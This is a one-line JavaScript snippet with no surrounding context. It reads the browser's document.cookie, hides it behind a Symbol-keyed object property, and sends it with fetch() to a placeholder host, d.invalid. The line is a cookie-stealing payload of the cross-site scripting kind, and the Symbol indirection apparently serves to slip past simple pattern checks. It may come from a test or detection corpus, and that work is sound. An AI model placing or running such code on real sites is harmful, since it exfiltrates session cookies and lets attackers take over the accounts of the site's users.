const S = Symbol(); const o = { [S]: document.cookie }; fetch('https://d.invalid/' + o[S]);
